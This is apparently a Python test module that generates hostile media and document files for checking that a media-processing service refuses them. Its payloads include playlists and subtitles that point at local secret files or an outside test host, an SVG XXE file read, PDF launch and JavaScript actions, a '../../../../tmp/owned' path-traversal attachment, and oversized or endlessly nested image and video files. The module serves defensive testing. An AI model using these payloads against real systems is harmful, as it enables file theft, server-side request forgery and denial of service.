"""Files that attack whoever opens them: they name other files and hosts, claim to be huge, or never end.

Each is drawn by a function of a ``Bait``: what must not be read or called.
"""

import io
import struct
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import av
import numpy as np
from PIL import Image

_CORPUS = Path(__file__).parent / "fuzz" / "corpus" / "media"


@dataclass(frozen=True)
class Bait:
    """A film nobody may read, and a host nobody may call."""

    secret: str
    """Its path."""
    http: str
    """The host's address without a slash at the end."""
    port: int


def grey_film(level: int, container: str = "mp4") -> bytes:
    """A second of one grey level."""
    file = io.BytesIO()
    with av.open(file, "w", format=container) as out:
        stream = out.add_stream("mpeg4", rate=10)
        stream.width = stream.height = 64
        stream.pix_fmt = "yuv420p"
        for _ in range(10):
            picture = np.full((64, 64, 3), level, np.uint8)
            out.mux(stream.encode(av.VideoFrame.from_ndarray(picture, format="rgb24")))
        out.mux(stream.encode())
    return file.getvalue()


# -- texts that name others ------------------------------------------------------------------------------------

_HLS = "#EXTM3U\n#EXT-X-TARGETDURATION:10\n#EXTINF:10.0,\n{}\n#EXT-X-ENDLIST\n"
_MPD = (
    '<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static" mediaPresentationDuration="PT1S">'
    '<Period><AdaptationSet mimeType="video/mp4"><Representation id="1" bandwidth="1"><BaseURL>{0}</BaseURL>'
    '<SegmentList><Initialization sourceURL="{0}"/><SegmentURL media="{0}"/></SegmentList>'
    "</Representation></AdaptationSet></Period></MPD>"
)
_TEXTS: dict[str, str] = {
    "hls_http.ts": _HLS.format("{http}/a.ts"),
    "hls_file.png": _HLS.format("file://{secret}"),
    "hls_master.mkv": "#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=1\n{http}/low.m3u8\n",
    "hls_map.mp4": _HLS.format("{secret}").replace("#EXTINF", '#EXT-X-MAP:URI="{http}/init.mp4"\n#EXTINF'),
    "hls_key.webm": _HLS.format("{secret}").replace("#EXTINF", '#EXT-X-KEY:METHOD=AES-128,URI="file://{secret}"\n#EXTINF'),
    "hls_crypto.avi": _HLS.format("crypto:{secret}"),
    "hls_data.mp4": _HLS.format("data:text/plain,{http}/x"),
    "hls_async_cache.mp4": _HLS.format("async:cache:{http}/x"),
    "hls_after_bom.mp4": "\ufeff" + _HLS.format("{http}/a.ts"),
    "hls_after_lines.mp4": "\n\n" + _HLS.format("{http}/a.ts"),
    "concat_plain.mp4": "file '{secret}'\n",
    "concat_script.jpg": "ffconcat version 1.0\nfile '{secret}'\noption safe 0\n",
    "concat_http.mov": "ffconcat version 1.0\nfile '{http}/a.mp4'\nduration 3\n",
    "dash_file.mp4": _MPD.format("file://{secret}"),
    "dash_http.webm": _MPD.format("{http}/a.mp4"),
    "sdp.mp4": "v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\nm=video {port} RTP/AVP 96\na=rtpmap:96 H264/90000\n",
    "rtsp.ram": "rtsp://127.0.0.1:{port}/a\n",
    "asx.wmv": '<asx version="3.0"><entry><ref href="{http}/a.wmv"/></entry></asx>',
    "reference.asf": "[Reference]\r\nRef1={http}/a.asf\r\nRef2={secret}\r\n",
    "pls.mp3": "[playlist]\nNumberOfEntries=1\nFile1={http}/a.mp3\n",
    "xspf.mp4": '<playlist xmlns="http://xspf.org/ns/0/"><trackList><track><location>{http}/a</location></track></trackList></playlist>',
    "smil.mp4": '<smil><body><video src="{http}/a.mp4"/></body></smil>',
    "smooth.ism": '<SmoothStreamingMedia MajorVersion="2"><StreamIndex Url="{http}/a"/></SmoothStreamingMedia>',
    "imf.xml": '<CompositionPlaylist xmlns="http://www.smpte-ra.org/schemas/2067-3/2016"><Id>{secret}</Id></CompositionPlaylist>',
    "vobsub.idx": "# VobSub index file, v7 (do not modify this line!)\nsize: 720x576\nid: en, index: 0\ntimestamp: 00:00:00:000, filepos: 000000000\n",
    "microdvd.sub": "{{1}}{{1}}25.0\n{{1}}{{100}}{secret}\n",
    "subtitle.srt": "1\n00:00:00,000 --> 00:00:05,000\n<img src=\"{http}/a.png\">\n",
    "subtitle.ass": "[Script Info]\nAudio File: {secret}\nVideo File: {http}/a\n[Events]\nDialogue: 0,0:00:00.00,0:00:05.00,,x\n",
    "subtitle.vtt": "WEBVTT\nX-TIMESTAMP-MAP=LOCAL:00:00:00.000\n\n00:00.000 --> 00:05.000\n<c.{http}>x\n",
    "avisynth.avs": 'DirectShowSource("{secret}")\n',
    "vapoursynth.vpy": "open('{secret}').read()\n",
    "lavfi.mp4": "movie={secret}[out]\n",
    "ffmetadata.mp4": ";FFMETADATA1\ntitle={http}\n",
    "cue.flac": 'FILE "{secret}" WAVE\n  TRACK 01 AUDIO\n    INDEX 01 00:00:00\n',
    "svg.png": '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><image xlink:href="file://{secret}"/><image xlink:href="{http}/a.png"/></svg>',
    "svg_entity.jpg": '<!DOCTYPE svg [<!ENTITY x SYSTEM "file://{secret}">]><svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>',
    "html.mp4": '<html><video src="{http}/a.mp4" autoplay></video></html>',
    "postscript.png": "%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 10 10\n({secret}) run\n(w) file\nshowpage\n%%EOF\n",
    "shortcut.url": "[InternetShortcut]\nURL={http}/a.mp4\n",
    "mvg.png": "push graphic-context\nviewbox 0 0 640 480\nfill 'url({http}/a.png\")'\npop graphic-context\n",
}  # fmt: skip


def _text(template: str) -> Callable[[Bait], bytes]:
    return lambda bait: template.format(secret=bait.secret, http=bait.http, port=bait.port).encode()


# -- films that name others ------------------------------------------------------------------------------------


def _boxes(data: bytes) -> list[tuple[bytes, bytes]]:
    found, at = [], 0
    while at + 8 <= len(data):
        size = int.from_bytes(data[at : at + 4])
        found.append((data[at + 4 : at + 8], data[at + 8 : at + size]))
        at += max(size, 8)
    return found


def _with_references(data: bytes, reference: bytes) -> bytes:
    """The film with its data said to lie elsewhere: another table of data references in every track."""
    made = b""
    for kind, body in _boxes(data):
        if kind in (b"moov", b"trak", b"mdia", b"minf", b"dinf"):
            body = _with_references(body, reference)  # noqa: PLW2901
        elif kind == b"dref":
            body = struct.pack(">II", 0, 1) + reference  # noqa: PLW2901
        made += struct.pack(">I4s", 8 + len(body), kind) + body
    return made


def _reference(kind: bytes, where: str) -> bytes:
    place = where.encode() + b"\0"
    return struct.pack(">I4sI", 12 + len(place), kind, 0) + place


def _with_playlist_inside(bait: Bait) -> bytes:
    """The film with a playlist in a box that nobody reads."""
    text, film = _HLS.format(bait.secret).encode(), grey_film(9)
    return film[:32] + struct.pack(">I4s", 8 + len(text), b"free") + text + film[32:]


def _alias(bait: Bait) -> bytes:
    """A QuickTime alias record: volume, folder and, as type 2, the absolute path."""
    path = bait.secret.encode()
    record = bytes(10) + b"\x04disk" + bytes(23) + bytes(12) + b"\x0asecret.mp4" + bytes(53) + bytes(16)
    record += struct.pack(">HH", 2, len(path)) + path + bytes(len(path) % 2) + struct.pack(">HH", 0xFFFF, 0)
    return struct.pack(">I4sI", 12 + len(record), b"alis", 0) + record


def _element(number: bytes, body: bytes) -> bytes:
    return number + struct.pack(">Q", len(body) | 1 << 56) + body


def _linked(bait: Bait) -> bytes:
    """A Matroska film with attachments and a part before and one after it, in other files."""
    film = (_CORPUS / "matroska-libx264").read_bytes()
    segment = film.index(b"\x18\x53\x80\x67")
    rest = film[segment + 4 + 8 :]
    name = b"../" + Path(bait.secret).name.encode()
    info = _element(
        b"\x15\x49\xa9\x66",
        _element(b"\x2a\xd7\xb1", b"\x0f\x42\x40")
        + _element(b"\x3c\xb9\x23", bytes(16))
        + _element(b"\x3c\x83\xab", name)
        + _element(b"\x3e\x83\xbb", bait.secret.encode())
        + _element(b"\x3e\xb9\x23", bytes(15) + b"\1"),
    )
    playlist = _HLS.format(f"{bait.http}/a.ts").encode()
    attached = b"".join(
        _element(
            b"\x61\xa7",
            _element(b"\x46\x6e", what)
            + _element(b"\x46\x60", kind)
            + _element(b"\x46\xae", b"\1")
            + _element(b"\x46\x5c", playlist),
        )
        for what, kind in (
            (b"../../../../tmp/owned", b"application/x-truetype-font"),
            (b"list.m3u8", b"audio/x-mpegurl"),
        )
    )
    chapters = _element(
        b"\x45\xb9", _element(b"\xb6", _element(b"\x6e\x67", bytes(15) + b"\1") + _element(b"\x91", b"\0"))
    )
    extra = info + _element(b"\x19\x41\xa4\x69", attached) + _element(b"\x10\x43\xa7\x70", chapters)
    return film[: segment + 4] + b"\x01" + b"\xff" * 7 + extra + rest


def _pdf(bait: Bait, box: str = "0 0 200 200") -> bytes:
    """Pages that act when opened, and whose contents lie elsewhere."""
    objects = [
        f"<</Type/Catalog/Pages 2 0 R/OpenAction<</S/URI/URI({bait.http}/open)>>"
        f"/AA<</WC<</S/Launch/F({bait.secret})>>>>/Names<</JavaScript<</Names[(a)<</S/JavaScript"
        f"/JS(app.launchURL('{bait.http}'))>>]>>>>>>",
        "<</Type/Pages/Kids[3 0 R]/Count 1>>",
        f"<</Type/Page/Parent 2 0 R/MediaBox[{box}]/Contents 4 0 R/Resources<</XObject<</I 5 0 R>>>>>>",
        f"<</Length 0/F<</FS/URL/F({bait.http}/contents)>>>>stream\n\nendstream",
        f"<</Type/XObject/Subtype/Image/Width 1/Height 1/BitsPerComponent 8/ColorSpace/DeviceGray/Length 0"
        f"/F({bait.secret})>>stream\n\nendstream",
    ]
    made, places = b"%PDF-1.7\n", []
    for number, body in enumerate(objects, 1):
        places.append(len(made))
        made += f"{number} 0 obj{body}endobj\n".encode()
    table = "".join(f"{place:010} 00000 n \n" for place in places)
    end = (
        f"xref\n0 6\n0000000000 65535 f \n{table}trailer<</Size 6/Root 1 0 R>>\nstartxref\n{len(made)}\n%%EOF"
    )
    return made + end.encode()


# -- sizes that are claimed ------------------------------------------------------------------------------------


def _png(width: int, height: int, rows: bytes = b"") -> bytes:
    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    head = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 6, 0, 0, 0))
    return (
        b"\x89PNG\r\n\x1a\n" + head + chunk(b"IDAT", zlib.compress(rows or bytes(100))) + chunk(b"IEND", b"")
    )


def _tiff(width: int, height: int, following: int = 0) -> bytes:
    tags = (
        (256, width),
        (257, height),
        (258, 8),
        (259, 1),
        (262, 1),
        (273, 8),
        (277, 1),
        (278, height),
        (279, 10),
    )
    entries = b"".join(struct.pack("<HHII", tag, 4, 1, value) for tag, value in tags)
    return (
        b"II*\0"
        + struct.pack("<I", 8)
        + struct.pack("<H", len(tags))
        + entries
        + struct.pack("<I", following)
    )


def _patched(name: str, old: bytes, new: bytes) -> bytes:
    data = (_CORPUS / name).read_bytes()
    assert old in data, name
    return data.replace(old, new)


def _gif(frames: int) -> bytes:
    frame = b"\x21\xf9\x04\0\1\0\0\0\x2c\0\0\0\0\1\0\1\0\0\2\2D\1\0"
    return b"GIF89a\1\0\1\0\x80\0\0\0\0\0\xff\xff\xff" + frame * frames + b";"


def _bmp(width: int, height: int) -> bytes:
    return (
        b"BM"
        + struct.pack("<IHHIIiiHHIIiiII", 154, 0, 0, 54, 40, width, height, 1, 24, 0, 100, 0, 0, 0, 0)
        + bytes(100)
    )


def _webp_canvas() -> bytes:
    body = b"VP8X" + struct.pack("<I", 10) + b"\x02\0\0\0" + b"\xff\xff\xff" * 2
    body += b"ANIM" + struct.pack("<I", 6) + bytes(6)
    body += b"ANMF" + struct.pack("<I", 24) + bytes(6) + b"\xff\xff\xff" * 2 + bytes(12)
    return b"RIFF" + struct.pack("<I", 4 + len(body)) + b"WEBP" + body


def _jpeg(side: int) -> bytes:
    return (
        b"\xff\xd8\xff\xc0"
        + struct.pack(">HBHHB", 11, 8, side, side, 1)
        + b"\1\x11\0"
        + b"\xff\xda\0\x08\1\1\0\0\x3f\0"
        + bytes(50)
    )


def _psd() -> bytes:
    return (
        b"8BPS" + struct.pack(">H6xHIIHH", 1, 56, 300_000, 300_000, 8, 3) + bytes(12) + b"\0\0" + bytes(200)
    )


def _swf() -> bytes:
    """A film whose frame is two million units wide, that asks for pages and never ends."""
    head = (
        b"FWS\x09"
        + struct.pack("<I", 1 << 30)
        + b"\xf8"
        + b"\x7f\xff\xff\xff" * 4
        + struct.pack("<HH", 256, 65535)
    )
    return (
        head
        + struct.pack("<HI", 12 << 6 | 0x3F, 1 << 29)
        + b"\x83\x20\0http://127.0.0.1/\0_self\0"
        + bytes(100)
    )


def _repeated_frames(count: int) -> bytes:
    """A picture of nothing, many times over: a few bytes for each frame of millions of pixels."""
    file = io.BytesIO()
    blank = Image.new("1", (4000, 4000))
    blank.save(
        file, "PNG", save_all=True, append_images=[Image.new("1", (4000, 4000), n % 2) for n in range(count)]
    )
    return file.getvalue()


def _deep_boxes() -> bytes:
    """A hundred thousand boxes, each in another."""
    data = (_CORPUS / "mp4-mpeg4").read_bytes()
    nest = b"".join(struct.pack(">I4s", 8 * (100_000 - n), b"moov") for n in range(100_000))
    return data[: int.from_bytes(data[:4])] + nest


def _deep_elements() -> bytes:
    """Tags in tags in tags."""
    body = b""
    for _ in range(2_000):
        body = _element(b"\x67\xc8", body)
    film = (_CORPUS / "matroska-libx264").read_bytes()
    return film + _element(b"\x12\x54\xc3\x67", _element(b"\x73\x73", body))


_MP4 = grey_film
_BUILT: dict[str, Callable[[Bait], bytes]] = {
    "reference_url.mp4": lambda b: _with_references(_MP4(9), _reference(b"url ", b.http + "/a.mp4")),
    "reference_file.mov": lambda b: _with_references(_MP4(9), _reference(b"url ", "file://" + b.secret)),
    "reference_path.mov": lambda b: _with_references(_MP4(9), _reference(b"url ", b.secret)),
    "reference_alias.mov": lambda b: _with_references(_MP4(9), _alias(b)),
    "linked.mkv": _linked,
    "playlist_before_film.mp4": lambda b: _HLS.format(f"{b.http}/a.ts").encode() + _MP4(9),
    "playlist_in_free_box.mp4": _with_playlist_inside,
    "playlist_in_packets.ts": lambda b: (_HLS.format(b.secret).encode() * 4)[:188] * 8 + _MP4(9, "mpegts"),
    "acting.pdf": _pdf,
    "page_of_a_continent.pdf": lambda b: _pdf(b, "0 0 2000000000 2000000000"),
    "page_without_area.pdf": lambda b: _pdf(b, "0 0 0 0"),
    "huge.png": lambda b: _png(0x7FFFFFFF, 0x7FFFFFFF),
    "wide.png": lambda b: _png(2_000_000, 1, bytes(8_000_001)),
    "unpacking.png": lambda b: _png(5_000, 5_000, bytes(5_000 * (4 * 5_000 + 1))),
    "huge.tiff": lambda b: _tiff(0xFFFFFFFF, 0xFFFFFFFF),
    "endless.tiff": lambda b: _tiff(16, 16, following=8),
    "huge.bmp": lambda b: _bmp(0x7FFFFFFF, 0x7FFFFFFF),
    "upside_down.bmp": lambda b: _bmp(30_000, -30_000),
    "canvas.webp": lambda b: _webp_canvas(),
    "huge.jpg": lambda b: _jpeg(65_535),
    "huge.gif": lambda b: b"GIF89a" + struct.pack("<HH", 65_535, 65_535) + _gif(2)[10:],
    "million_frames.gif": lambda b: _gif(1_000_000),
    "huge.psd": lambda b: _psd(),
    "huge.avif": lambda b: _patched("picture-avif", b"ispe\0\0\0\0\0\0\0\x20\0\0\0\x20", b"ispe\0\0\0\0\x7f\xff\xff\xff\x7f\xff\xff\xff"),
    "huge.exr": lambda b: _patched("picture-exr", struct.pack("<iiii", 0, 0, 31, 31), struct.pack("<iiii", 0, 0, 2_000_000, 2_000_000)),
    "huge.hdr": lambda b: _patched("picture-hdr", b"-Y 32 +X 32", b"-Y 2000000 +X 2000000"),
    "huge.qoi": lambda b: _patched("picture-qoi", b"qoif\0\0\0\x20\0\0\0\x20", b"qoif\x7f\xff\xff\xff\x7f\xff\xff\xff"),
    "huge.dds": lambda b: _patched("picture-dds", struct.pack("<II", 32, 32), struct.pack("<II", 0x7FFFFFFF, 0x7FFFFFFF)),
    "huge.jp2": lambda b: _patched("picture-jpeg2000", struct.pack(">II", 32, 32), struct.pack(">II", 0x7FFFFFFF, 0x7FFFFFFF)),
    "huge.y4m": lambda b: _patched("yuv4mpegpipe-wrapped_avframe", b"W32 H32", b"W99999 H99999"),
    "huge.ivf": lambda b: _patched("ivf-libvpx", b"\x9d\x01\x2a\x20\0\x20\0", b"\x9d\x01\x2a\xff\x3f\xff\x3f"),
    "huge.swf": lambda b: _swf(),
    "repeated.png": lambda b: _repeated_frames(12),
    "deep.mp4": lambda b: _deep_boxes(),
    "deep.mkv": lambda b: _deep_elements(),
    "empty.mp4": lambda b: b"",
    "zeros.mp4": lambda b: bytes(5_000_000),
}  # fmt: skip

ATTACKS: dict[str, Callable[[Bait], bytes]] = {
    **{name: _text(template) for name, template in _TEXTS.items()},
    **_BUILT,
}
"""What draws each, by the file's name."""
READABLE = frozenset(
    {
        "reference_url.mp4", "reference_file.mov", "reference_path.mov", "reference_alias.mov", "linked.mkv", "acting.pdf",
        "playlist_in_free_box.mp4", "playlist_in_packets.ts", "playlist_before_film.mp4", "page_of_a_continent.pdf",
        "page_without_area.pdf", "wide.png", "unpacking.png", "endless.tiff", "repeated.png", "deep.mkv", "huge.avif",
        "million_frames.gif", "huge.ivf", "huge.gif", "huge.tiff",
    }
)  # fmt: skip
"""Those with a picture of their own in them, which may be shown; all others must be refused."""
